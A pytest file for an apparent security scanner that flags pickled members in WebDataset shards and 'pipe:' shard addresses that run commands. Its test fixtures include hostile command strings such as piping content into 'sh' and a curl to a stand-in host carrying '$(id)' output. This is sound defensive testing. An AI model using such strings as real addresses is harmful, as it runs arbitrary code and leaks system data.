"""WebDataset: members that are unpickled, and lists of shards that are commands."""

from __future__ import annotations

import pytest

from weighbridge.analyzers.datasets.shard_lists import judge_shard_lines, pipe_findings
from weighbridge.analyzers.datasets.webdataset import judge_shard
from weighbridge.bytesource.memory import MemorySource
from weighbridge.core.artifact import Artifact

SHARD = Artifact(("shard.tar",), MemorySource(b""))


def _members(*names: str) -> list[str]:
    return [one.subject for one in judge_shard(SHARD, names)]


def test_members_that_are_unpickled_are_told_by_ending() -> None:
    assert _members("a/1.txt", "a/1.pyd", "a/2.txt", "a/2.x.PKL") == ["members .pyd", "members .pkl"]


@pytest.mark.parametrize(
    "names", [("model.pkl",), ("a/data.pkl", "a/version"), ("1.txt", "1.json"), ("a.pkl", "b.txt"), ()]
)
def test_a_tar_that_is_no_shard_is_not_told(names: tuple[str, ...]) -> None:
    assert _members(*names) == []


@pytest.mark.parametrize(
    ("address", "rule"),
    [
        ("pipe:curl -s -L https://example.invalid/0.tar", "DST014"),
        ("pipe:aws s3 cp s3://bucket/0.tar -", "DST014"),
        ("pipe:cat 0.tar", "DST014"),
        ("pipe:cat 0.tar | sh", "DST015"),
        ("pipe:curl https://example.invalid/$(id)", "DST015"),
        ("pipe:echo weighbridge-marker", "DST015"),
        ("pipe:cat 0.tar > /tmp/x", "DST015"),
    ],
)
def test_a_command_is_judged_by_whether_it_only_fetches(address: str, rule: str) -> None:
    assert [one.rule for one in pipe_findings(SHARD, [address])] == [rule]


def test_a_list_of_shards_is_known_by_its_lines() -> None:
    lines = "https://example.invalid/0.tar\npipe:cat 1.tar\n"
    found = judge_shard_lines(SHARD, lines)
    assert found is not None
    assert [one.rule for one in found] == ["DST014"]


@pytest.mark.parametrize(
    "text", ["pipe: a tube\nfor water\nand more\n", "https://example.invalid/0.tar\n", ""]
)
def test_other_texts_are_no_list_of_shards(text: str) -> None:
    assert judge_shard_lines(SHARD, text) is None
